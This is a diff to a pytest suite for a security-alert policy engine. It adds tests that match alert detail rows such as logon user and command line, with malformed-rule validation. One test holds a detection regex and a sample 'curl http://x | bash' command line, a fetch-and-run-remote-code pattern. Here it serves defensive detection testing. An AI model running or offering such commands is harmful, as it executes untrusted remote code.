@@ -215,7 +215,7 @@ def test_every_mistake_of_every_rule_is_reported_at_once():
         "rule 'first': match.level 'critical' is not a value sas_alert_info gives; it gives serious, suspicious, "
         "remind",
         "rule 'first': match key 'hostname' is not an alert field (did you mean name?) (sas_alert_info returns "
-        "fields such as level, alarm_event_type, alarm_event_name_display, instance_name, uuid, status)",
+        "fields such as level, alarm_event_type, alarm_event_name_display, instance_name, uuid, status, details)",
         "rule 'first': params.block_duration must be non-empty text, got 7",
         "rule 'third': unknown key 'extra'; a rule takes name, match, action, params, enabled, description",
         "rule 'third': enabled must be true or false, got 'yes'",
@@ -366,3 +366,67 @@ def test_the_first_enabled_matching_rule_decides():
 def test_a_disabled_rule_is_still_checked():
     with pytest.raises(PolicyError, match="rule 'off'"):
         check([rule("off", action="ignor", enabled=False)])
+
+
+# --- matching on details (by a detail's displayed name) ------------------------------------------
+
+def logon_details(user="root", cmdline=None, language="en"):
+    names = {"en": ("Logon source IP", "Logon user", "Command line"),
+             "zh": ("登录源IP", "登录用户", "命令行")}[language]
+    rows = [{"name_display": names[0], "type": "text", "value": "198.51.100.179", "value_display": "198.51.100.179"},
+            {"name_display": names[1], "type": "text", "value": user, "value_display": user}]
+    if cmdline is not None:
+        rows.append({"name_display": names[2], "type": "text", "value": cmdline, "value_display": cmdline})
+    return make_alert(details=rows)
+
+
+def test_details_match_a_named_row_by_value_or_one_of_values():
+    assert first_match([rule("root", {"details": {"Logon user": "root"}})], logon_details()) == "root"
+    assert first_match([rule("root", {"details": {"Logon user": "root"}})], logon_details("deploy")) is None
+    # a value another row has is no match: the name decides which row
+    assert first_match([rule("ip", {"details": {"Logon user": "198.51.100.179"}})], logon_details()) is None
+    assert first_match([rule("admins", {"details": {"Logon user": ["admin", "root"]}})], logon_details()) == "admins"
+    # the name as the service shows it, case and surrounding spaces aside; in the run's language
+    assert first_match([rule("r", {"details": {" logon USER ": "root"}})], logon_details()) == "r"
+    assert first_match([rule("r", {"details": {"登录用户": "root"}})], logon_details(language="zh")) == "r"
+    assert first_match([rule("r", {"details": {"Logon user": "root"}})], logon_details(language="zh")) is None
+
+
+def test_details_regex_and_every_named_detail_must_hold():
+    rules = [rule("curl-sh", {"details": {"Logon user": "root"},
+                              "details_regex": {"Command line": r"curl .*[|] *(ba)?sh"}})]
+    assert first_match(rules, logon_details(cmdline="curl http://x | bash")) == "curl-sh"
+    assert first_match(rules, logon_details("deploy", cmdline="curl http://x | bash")) is None
+    assert first_match(rules, logon_details(cmdline="wget http://x")) is None
+    assert first_match(rules, logon_details()) is None  # no Command line row: no match
+    assert first_match(rules, make_alert()) is None  # no details at all
+
+
+def test_details_are_given_back_as_written():
+    match = {"details": {"Logon user": ["root", "admin"]}, "details_regex": {"Command line": "curl"},
+             "level": "serious"}
+    assert check([rule("d", match)])[0].to_dict()["match"] == match
+
+
+@pytest.mark.parametrize("match, message", [
+    ({"details": "root"}, "match.details must be a mapping from a detail's displayed name"),
+    ({"details": {}}, "match.details must be a mapping"),
+    ({"details": ["Logon user", "root"]}, "match.details must be a mapping"),
+    ({"details_regex": "curl"}, "match.details_regex must be a mapping from a detail's displayed name (as in the "
+                                "alert's details, in the run's language) to a regular expression"),
+    ({"details": {"Logon user": {"is": "root"}}}, "match.details.Logon user must be a value, a list of values"),
+    ({"details": {"Logon user": []}}, "match.details.Logon user must be a non-empty list of values"),
+    ({"details": {"": "root"}}, "match.details has a name ''"),
+    ({"details_regex": {"Command line": "(curl"}}, "match.details_regex.Command line '(curl' is not a regular "
+                                                   "expression RE2 accepts"),
+])
+def test_malformed_details_are_refused_naming_the_rule_and_the_detail(match, message):
+    with pytest.raises(PolicyError) as refused:
+        check([rule("by-detail", match)])
+    assert "rule 'by-detail': " + message in str(refused.value)
+
+
+def test_every_mistake_in_details_is_named_at_once():
+    with pytest.raises(PolicyError) as refused:
+        check([rule("d", {"details": {"A": [], "B": {"x": 1}}, "details_regex": {"C": "(x"}})])
+    assert len(refused.value.problems) == 3
